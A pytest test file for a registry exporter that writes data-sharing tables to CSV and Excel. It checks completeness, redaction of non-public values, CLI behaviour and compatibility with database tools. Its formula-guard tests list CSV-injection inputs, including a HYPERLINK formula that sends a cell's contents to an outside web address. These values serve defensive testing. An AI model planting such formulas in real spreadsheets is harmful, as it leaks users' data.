"""Tables hold all that the registry states of what they list, run nothing, and hold nothing that is not public."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator, Sequence
from contextlib import closing
from dataclasses import is_dataclass, replace
from datetime import date
from functools import cache
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pandas as pd
import pytest
import sqlite_utils
import xlsxwriter
from click.testing import CliRunner, Result
from sqlite_utils.utils import Format, rows_from_file

from site_builder.addresses import MANIFEST, TABLES
from site_builder.addresses import table as table_of
from site_builder.cli import cli
from site_builder.errors import Failure
from site_builder.facts.lifecycle import standing
from site_builder.facts.redact import public
from site_builder.load.feed.reader import read
from site_builder.load.project.folder import load
from site_builder.locale.languages import language
from site_builder.manifest.form import read as read_manifest
from site_builder.model import Registry
from site_builder.model.conditions import CONDITIONS, Unknown
from site_builder.model.fields import Field, fields_of
from site_builder.model.values import Id, Text, Word, Words
from site_builder.render.feed.graph import render as feed
from site_builder.render.tables import csv_file, workbook
from site_builder.render.tables.record import COLUMNS, EMPTY, NOTE, record
from site_builder.render.tables.registry_tables import tables, title
from site_builder.render.tables.table import Table, harmless, table
from tests import every_field
from tests.built import built
from tests.effort import some, thorough
from tests.examples import FOLDERS, example
from tests.rich_registry import rich
from tests.seed import ON, ROOT, whole
from tests.small_registry import disclosure, recipient, registry, said, word

NAMES = [*FOLDERS, "every field"]
MARK = "XQZTABLEXQZ"


@cache
def of(name: str) -> tuple[Registry, tuple[Table, ...]]:
    """A registry and its tables."""
    found = rich() if name == "every field" else example(name)
    return found, made(found)


def made(found: Registry) -> tuple[Table, ...]:
    return tables(found, language(found.languages[0]), ON)


def recorded(found: Registry) -> Table:
    return record(found, language(found.languages[0]), ON)


# ---- all of it is there


def missing(found: Registry, in_tables: Sequence[Table]) -> Iterator[str]:
    """Every statement of what the tables list that stands in no cell of its row, below the name of its field."""
    rows = {each.name: {row[0]: dict(zip(each.columns, row, strict=True)) for row in each.rows} for each in in_tables}
    things: list[Any] = [*found.recipients, *found.disclosures, *found.bodies]
    of_table = {**dict.fromkeys((r.id for r in found.recipients), "recipients")}
    of_table |= {**dict.fromkeys((d.id for d in found.disclosures), "disclosures")}
    for thing in things:
        row = rows[of_table.get(thing.id, "bodies")].get(thing.id, {})
        yield from _missing(thing, row, thing.id)
        for entry in found.confirmations.get(thing.id, ()):
            yield from _missing(entry, {c.removeprefix("confirmed: "): t for c, t in row.items()}, thing.id)
    owners: list[Any] = [*found.notices, *found.recipients, *found.disclosures, *found.conditions]
    for owner in owners:
        for condition in owner.conditions:
            row = rows["conditions"].get(f"{owner.id}.conditions.{condition.type}", {})
            yield from _missing(condition, row, f"{owner.id} {condition.type}")
            if (row.get("stated for id"), row.get("type")) != (owner.id, condition.type):
                yield f"{owner.id} states {condition.type}"
    for d in found.disclosures:
        listed = rows["disclosures"].get(d.id, {}).get("conditions id", "").split("; ")
        yield from (f"{d.id}: {x.id}" for x in found.limits(d) if not x.possible and x.id not in listed)


def _missing(thing: Any, row: dict[str, str], whose: str, above: str = "") -> Iterator[str]:
    for field in fields_of(type(thing)):
        if field.name in ("conditions", "disclosures", "confirms", "marks", "status"):
            continue
        name, value = f"{above}{title(field)}", getattr(thing, field.name)
        for entry in value if isinstance(value, tuple) else () if value is None else (value,):
            if is_dataclass(entry) and not isinstance(entry, Words):
                yield from _missing(entry, row, whose, f"{name}: ")
            elif not _holds(row.get(_column(name, field), ""), entry):
                yield f"{whose}: {name} {entry}"


def _column(name: str, field: Field) -> str:
    return f"{name} id" if field.one is Id and name != "id" else name


def _holds(cell: str, entry: Any) -> bool:
    if isinstance(entry, bool):
        text = "yes" if entry else "no"
    elif isinstance(entry, date):
        text = entry.isoformat()
    else:
        text = str(entry)
    return text in cell or text.replace("_", " ") in cell


@pytest.mark.parametrize("name", NAMES)
def test_every_statement_is_in_a_cell(name: str) -> None:
    assert list(missing(*of(name))) == []


SAID_TWICE = {
    *("notices", "part of", "what people gain", "rights", "rights in part", "research rules", "status", "conditions"),
    *("in words", "notices id", "part of id"),
}
"""Columns of what follows from others, or says them again."""


def test_a_table_that_lacks_a_column_is_caught() -> None:
    found, whole_tables = of("every field")
    tried = 0
    for each in whole_tables:
        for at, column in enumerate(each.columns):
            says_parts = any(other.startswith(f"{column}: ") for other in each.columns)
            says_names = f"{column} id" in each.columns
            if column in SAID_TWICE or says_parts or says_names or not any(row[at] for row in each.rows):
                continue
            rows = tuple((*row[:at], "", *row[at + 1 :]) for row in each.rows)
            others = [replace(t, rows=rows) if t is each else t for t in whole_tables]
            if (each.name, column) not in {("conditions", "stated for id"), ("recipients", "conditions id")}:
                assert list(missing(found, others)), f"{each.name}: {column}"
                tried += 1
    assert tried > 150


@pytest.mark.parametrize("name", NAMES)
def test_names_stand_beside_ids_and_no_cell_holds_json(name: str) -> None:
    found, in_tables = of(name)
    for each in in_tables:
        assert len({*each.columns}) == len(each.columns)
        for row in each.rows:
            cells = dict(zip(each.columns, row, strict=True))
            assert [c for c, text in cells.items() if text.startswith(("{", "["))] == []
            for column in (c for c in cells if f"{c} id" in cells):
                assert bool(cells[column]) == bool(cells[f"{column} id"]), column
    recipients = {r.id: str(r.name) for r in found.recipients}
    (shared,) = (t for t in in_tables if t.name == "disclosures")
    who, key = shared.columns.index("recipient"), shared.columns.index("recipient id")
    assert {row[key]: row[who] for row in shared.rows if row[key] != "not_stated"}.items() <= {
        key: harmless(name) for key, name in recipients.items()
    }.items()


def test_columns_are_called_as_fields_are_and_a_parameter_has_one_column() -> None:
    _, in_tables = of("every field")
    (conditions,) = (t for t in in_tables if t.name == "conditions")
    by_key: dict[str, set[str]] = {}
    for kind in CONDITIONS.values():
        for field in fields_of(kind):
            by_key.setdefault(field.key, set()).add(title(field))
    assert all(len(titles) == 1 for titles in by_key.values())
    titles = [next(iter(each)) for each in by_key.values()]
    assert len({*titles}) == len(titles)
    assert {*titles} < {*conditions.columns}


def test_us_and_nobody_are_told_apart() -> None:
    to_nobody, from_nobody = disclosure("a", None), disclosure("b", sender=Id("not_stated"))
    found = registry(recipient("school", "School", to_nobody, from_nobody))
    (_, shared, *_) = made(found)
    rows = [dict(zip(shared.columns, row, strict=True)) for row in shared.rows]
    assert [(r["recipient"], r["recipient id"]) for r in rows] == [("not stated", "not_stated"), ("School", "school")]
    assert [(r["sender"], r["sender id"]) for r in rows] == [
        ("Our Council", "our-council"),
        ("not stated", "not_stated"),
    ]
    assert rows[0]["retention"] == rows[0]["lawful basis"] == "not stated"
    assert rows[0]["legal power"] == ""


def test_a_prohibition_does_not_read_like_a_permission() -> None:
    kind = CONDITIONS["no_individual_effect"]
    found = registry(recipient("school", "School", disclosure("a", conditions=(kind(),))))
    _, shared, conditions, _ = made(found)
    said_of_it = "Not allowed: Using it in a way that affects any one person"
    assert conditions.rows[0][conditions.columns.index("in words")] == said_of_it
    assert shared.rows[0][shared.columns.index("conditions")] == said_of_it


def test_a_condition_that_a_newer_feed_states_is_told_as_not_understood() -> None:
    unknown = Unknown(type=Word("moonlight"), why=Text("the type moonlight"))
    (_, _, conditions, _) = made(registry(recipient("school", "School", disclosure("a", conditions=(unknown,)))))
    assert conditions.rows[0][:5] == (
        "a.conditions.moonlight",
        "School, “Words.”",
        "a",
        "moonlight",
        "Not understood: the type moonlight",
    )


# ---- no cell is run


FORMULAS = [
    *('=HYPERLINK("https://council.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "\n=1+1"),
    *(" =1+1", "＝1+1", "\u00a0=1+1", "-7 to -1 years"),
]


def run_in(data: bytes) -> list[str]:
    """The cells of a CSV file that a spreadsheet would run."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    signs = (*"=+-@＝＋－＠", "\t", "\r", "\n")
    return [text for row in rows for text in row if text.startswith(signs) or text.lstrip().startswith(signs)]


def _named(text: str) -> tuple[Table, ...]:
    found = registry(recipient("school", text, disclosure("a", data_items=(said(text), said("others")))))
    return made(replace(found, organisation=replace(found.organisation, name=said(text))))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    in_tables = _named(text)
    for each in in_tables:
        assert run_in(csv_file.render(each)) == []
    assert any(f"'{text}" in row for each in in_tables for row in each.rows)
    book = openpyxl.load_workbook(io.BytesIO(workbook.render(in_tables, ON)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell for cell in cells if cell.hyperlink] == []


@pytest.mark.parametrize("text", FORMULAS)
def test_a_table_whose_cells_are_not_guarded_is_caught(text: str) -> None:
    unguarded = Table("recipients", ("id", "name"), (("school", text),))
    assert run_in(csv_file.render(unguarded)) == [text]


def test_a_workbook_that_takes_texts_for_formulas_is_caught() -> None:
    data = io.BytesIO()
    with xlsxwriter.Workbook(data) as book:
        book.add_worksheet().write(0, 0, "=1+1")
    sheet = openpyxl.load_workbook(data).worksheets[0]
    assert sheet["A1"].data_type == "f"


@pytest.mark.parametrize("text", ["O'Neill", "a = b", "12", "5-11", "", "'Tis", "é@x"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("name", NAMES)
def test_no_example_has_a_cell_that_is_run(name: str) -> None:
    found, in_tables = of(name)
    assert [cell for each in (*in_tables, recorded(found)) for cell in run_in(csv_file.render(each))] == []


# ---- bytes


def test_a_csv_file_has_a_mark_and_holds_what_it_was_given() -> None:
    hard = ('a, b; "c"', "two\nlines", "two\r\nmore", "Ŵy’r – naïve", "", " space ")
    data = csv_file.render(table("t", map(str, range(len(hard))), [hard]))
    assert data.startswith(b"\xef\xbb\xbf0,1,2,")
    assert data.split(b"\r\n")[0].count(b",") == len(hard) - 1
    assert data.endswith(b"\r\n")
    assert [*csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))][1] == list(hard)


@pytest.mark.parametrize("name", NAMES)
def test_a_workbook_holds_what_the_csv_files_hold(name: str) -> None:
    found, in_tables = of(name)
    book = openpyxl.load_workbook(io.BytesIO(workbook.render(in_tables, found.issued)))
    assert book.sheetnames == ["recipients", "disclosures", "conditions", "bodies"]
    for each in in_tables:
        rows = [tuple(v or "" for v in row) for row in book[each.name].iter_rows(values_only=True)]
        assert rows == [each.columns, *each.rows]
    assert book.properties.created.date() == found.issued


def test_a_text_too_long_for_a_cell_is_refused_and_csv_takes_it() -> None:
    long = table("t", ("id", "name"), [("a", "x" * 32_768)])
    with pytest.raises(Failure, match="“name” of a in the table t has 32,768 characters"):
        workbook.render([long], ON)
    assert b"x" * 32_768 in csv_file.render(long)
    assert workbook.render([table("t", ("id", "name"), [("a", "x" * 32_767)])], ON)


@pytest.mark.parametrize("name", FOLDERS)
def test_a_feed_makes_the_same_tables_as_its_registry(name: str) -> None:
    found, in_tables = of(name)
    again = read(feed(found, ON))
    assert (made(again), recorded(again)) == (in_tables, recorded(found))


# ---- other programs open them


Opened = tuple[tuple[str, ...], list[tuple[str, ...]]]
"""The names of the columns, and the rows."""


def by_pandas(file: Path) -> Opened:
    frame = pd.read_csv(file, dtype=str, keep_default_na=False)
    return tuple(frame.columns), [*frame.itertuples(index=False, name=None)]


def by_duckdb(file: Path) -> Opened:
    with duckdb.connect() as database:
        found = database.read_csv(str(file), all_varchar=True, na_values="�")
        return tuple(found.columns), found.fetchall()


def by_sqlite_utils(file: Path) -> Opened:
    """The way into a database of SQLite, which Datasette serves."""
    with file.open("rb") as data, closing(sqlite3.connect(":memory:")) as database:
        rows = [*rows_from_file(data, format=Format.CSV)[0]]
        place: Any = sqlite_utils.Database(database)["of_file"]
        place.insert_all(rows, pk="id")
        columns = tuple(column.name for column in place.columns)
        return columns, [tuple(row[c] for c in columns) for row in place.rows]


@pytest.mark.parametrize("opened", [by_pandas, by_duckdb, by_sqlite_utils])
@pytest.mark.parametrize("name", some(NAMES, one_in=6))
def test_a_database_opens_them_without_options_and_finds_all(
    name: str, opened: Callable[[Path], Opened], tmp_path: Path
) -> None:
    found, in_tables = of(name)
    for each in (*in_tables, recorded(found)):
        file = tmp_path / f"{each.name}.csv"
        file.write_bytes(csv_file.render(each))
        if each.rows or opened is not by_sqlite_utils:  # which makes no table of no rows
            assert opened(file) == (each.columns, [*each.rows])


@thorough
def test_datasette_serves_what_the_handbook_fills(tmp_path: Path) -> None:
    _, in_tables = of("seed")
    with closing(sqlite3.connect(tmp_path / "facts.db")) as database:
        for each in in_tables:
            rows = [*rows_from_file(io.BytesIO(csv_file.render(each)), format=Format.CSV)[0]]
            place: Any = sqlite_utils.Database(database)[each.name]
            place.insert_all(rows, pk="id")
        database.commit()
    for each in (each for each in in_tables if each.rows):
        asked = ["facts.db", "--get", f"/facts/{each.name}.json?_shape=array&_size=max"]
        command = [sys.executable, "-m", "datasette", *asked]
        served = subprocess.run(command, cwd=tmp_path, capture_output=True, check=True, text=True)
        found = json.loads(served.stdout)
        assert sorted(map(tuple, (row.values() for row in found))) == sorted(map(tuple, each.rows)), each.name


def test_an_answer_is_not_read_as_silence_and_days_are_days(tmp_path: Path) -> None:
    stays = disclosure("a", transfers="none", valid_from=date(2026, 4, 1))
    (_, shared, *_) = made(registry(recipient("school", "School", stays, disclosure("b"))))
    file = tmp_path / "disclosures.csv"
    file.write_bytes(csv_file.render(shared))
    frame = pd.read_csv(file)
    assert [*frame["transfers"].isna()] == [False, True]
    with duckdb.connect() as database:
        found = database.read_csv(str(file)).order("id").project('id, transfers, "first day"').fetchall()
    assert found == [("a", "none", date(2026, 4, 1)), ("b", None, None)]


# ---- the record of processing


def test_the_record_leaves_empty_what_is_not_held_and_says_so_in_each_row() -> None:
    assert {*EMPTY} < {*COLUMNS}
    assert all(name in NOTE for name in EMPTY)
    filled = set[str]()
    foreign = registry(recipient("school", "School", disclosure("a")))
    foreign = replace(foreign, organisation=replace(foreign.organisation, representative=Id("school")))
    for found in (*(of(name)[0] for name in NAMES), foreign):
        in_record = recorded(found)
        assert in_record.columns == COLUMNS
        for row in in_record.rows:
            cells = dict(zip(COLUMNS, row, strict=True))
            assert [c for c in EMPTY if cells[c]] == []
            assert cells["note"] == NOTE
            filled |= {column for column, text in cells.items() if text}
    assert filled == {*COLUMNS} - {*EMPTY}


@pytest.mark.parametrize("name", FOLDERS)
def test_the_record_is_of_what_we_do_now(name: str) -> None:
    found = example(name)
    kept = {row[0] for row in recorded(found).rows}
    for d in found.disclosures:
        us = d.sender in (None, found.organisation.id)
        assert (d.id in kept) == (us and d.modality != "never" and standing(found, d, ON) == "active"), d.id


def test_who_sends_us_data_is_its_source_and_no_recipient() -> None:
    ways = {"sent": None, "got": Word("receive"), "both": Word("two_way")}
    found = registry(recipient("school", "School", *(disclosure(key, direction=way) for key, way in ways.items())))
    rows = [dict(zip(COLUMNS, row, strict=True)) for row in recorded(found).rows]
    assert {r["id"]: (r["categories of recipients"], r["source of personal data"]) for r in rows} == {
        "sent": ("School", ""),
        "got": ("", "School"),
        "both": ("School", "School"),
    }


def test_a_joint_controller_and_the_lawful_basis_are_told_in_words() -> None:
    role, basis = Word("joint_controller"), word("public_task", "consent")
    found = registry(recipient("school", "School", disclosure("a", recipient_role=role, lawful_basis=basis)))
    (row,) = recorded(found).rows
    cells = dict(zip(COLUMNS, row, strict=True))
    assert cells["joint controllers"] == "School"
    assert cells["Article 6 lawful basis"] == "a public task (Article 6(1)(e)); consent (Article 6(1)(a))"


# ---- nothing that is not public


def _holding_the_mark(found: Registry) -> list[str]:
    """The files in which the mark stands."""
    in_tables = [*made(found), recorded(found)]
    files = {f"{each.name}.csv": csv_file.render(each) for each in in_tables}
    with zipfile.ZipFile(io.BytesIO(workbook.render(in_tables, found.issued))) as book:
        files |= {name: book.read(name) for name in book.namelist()}
    return [name for name, data in files.items() if MARK.encode() in data]


@pytest.fixture(scope="module")
def marked(tmp_path_factory: pytest.TempPathFactory) -> Registry:
    """A registry with every field, and a mark in all that is proposed or internal."""
    folder = tmp_path_factory.mktemp("marked")
    every_field.write(folder, MARK)
    found = load(folder, "registry", ON).registry
    assert found is not None
    assert str(found.unpublished).count(MARK) > 100
    return found


def test_no_internal_or_proposed_value_is_in_a_table(marked: Registry) -> None:
    assert _holding_the_mark(public(marked)) == []


def test_a_mark_in_a_public_value_is_found(marked: Registry) -> None:
    leaky = replace(public(marked), organisation=replace(marked.organisation, name=said(MARK)))
    assert _holding_the_mark(leaky) == ["disclosures.csv", "record.csv", "xl/sharedStrings.xml"]


def test_what_is_not_public_has_no_tables() -> None:
    for make in (made, recorded):
        with pytest.raises(ValueError, match="Only the public half"):
            make(whole())


# ---- the commands


def typed(folder: Path, line: str, example_: Path = ROOT) -> Result:
    words = [*line.format(folder=folder).split(), "-C", str(example_), "--on", ON.isoformat()]
    return CliRunner().invoke(cli, words)


def held(folder: Path) -> dict[str, bytes]:
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


CSV_FILES = {"bodies.csv", "conditions.csv", "disclosures.csv", "recipients.csv"}


def test_the_commands_write_the_same_bytes_each_time_and_from_the_feed(tmp_path: Path) -> None:
    for run in ("one", "two", "feed"):
        more = f"--feed {ROOT}/tests/golden/data/v1/feed.jsonld" if run == "feed" else ""
        for line in (
            f"export csv --out {{folder}}/{run} {more}",
            f"export xlsx --out {{folder}}/{run}/all.xlsx {more}",
            f"export record --out {{folder}}/{run}/record.csv {more}",
            f"export record --out {{folder}}/{run}/record.xlsx {more}",
        ):
            done = typed(tmp_path, line)
            assert (done.exit_code, done.stdout) == (0, ""), done.output
    one, two, from_feed = (held(tmp_path / run) for run in ("one", "two", "feed"))
    assert one == two == from_feed
    assert {*one} == CSV_FILES | {"all.xlsx", "record.csv", "record.xlsx"}
    assert {name: one[f"{name}.csv"] for name in ("disclosures",)} == {
        each.name: csv_file.render(each) for each in of("seed")[1] if each.name == "disclosures"
    }


@pytest.mark.parametrize("name", some(["practice", "aberwen"], one_in=2))
def test_a_site_holds_the_same_files_and_its_manifest_lists_them(tmp_path: Path, name: str) -> None:
    site = built(name, ON)
    assert typed(tmp_path, "export csv --out {folder}/out", FOLDERS[name].parent).exit_code == 0
    assert {table_of(Path(path).stem): data for path, data in held(tmp_path / "out").items()} == {
        path: data for path, data in site.items() if path.endswith(".csv")
    }
    assert {*map(table_of, TABLES)} <= read_manifest(site[MANIFEST]).files.keys()


def test_the_note_is_also_told_where_it_is_made(tmp_path: Path) -> None:
    assert NOTE in typed(tmp_path, "export record --out {folder}/record.csv").stderr


@pytest.mark.parametrize(
    "line",
    [
        "export csv --out {folder}",
        "export xlsx --out {folder}/conditions.xlsx",
        "export record --out {folder}/conditions.csv",
        "export record --out {folder}/conditions.xlsx",
    ],
)
def test_nothing_is_overwritten_unless_one_says_so(tmp_path: Path, line: str) -> None:
    for name in ("conditions.csv", "conditions.xlsx", "other.csv"):
        (tmp_path / name).write_bytes(b"mine")
    before = held(tmp_path)
    refused = typed(tmp_path, line)
    assert (refused.exit_code, held(tmp_path)) == (3, before)
    assert "There is already something called" in refused.stderr
    assert "--replace" in refused.stderr
    assert typed(tmp_path, f"{line} --replace").exit_code == 0
    after = held(tmp_path)
    assert after["other.csv"] == b"mine"
    assert sum(data == b"mine" for data in after.values()) == 2
    assert [name for name in after if name.startswith(".")] == []


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("export xlsx --out {folder}/all.csv", "ends with .xlsx"),
        ("export record --out {folder}/record.pdf", "ends with .csv or .xlsx"),
        ("export csv", "Missing option '--out'"),
    ],
)
def test_a_file_of_another_form_is_refused(tmp_path: Path, line: str, told: str) -> None:
    done = typed(tmp_path, line)
    assert (done.exit_code, told in done.stderr, held(tmp_path)) == (2, True, {})


@pytest.mark.parametrize("line", ["export csv --out {folder}/file", "export csv --out {folder}/none/such"])
def test_a_place_that_is_no_folder_is_told(tmp_path: Path, line: str) -> None:
    (tmp_path / "file").write_bytes(b"mine")
    for more in ("", " --replace"):
        done = typed(tmp_path, line + more)
        assert (done.exit_code, held(tmp_path)) == (3, {"file": b"mine"})
        assert "fault of the program" not in done.stderr


def test_a_registry_with_errors_and_a_file_that_is_no_feed_write_nothing(tmp_path: Path) -> None:
    (tmp_path / "registry").mkdir()
    (tmp_path / "feed.json").write_text("{}", "utf-8")
    for more in ("", " --feed feed.json"):
        assert typed(tmp_path, f"export csv --out out{more}", tmp_path).exit_code == 1
    assert {*held(tmp_path)} == {"feed.json"}
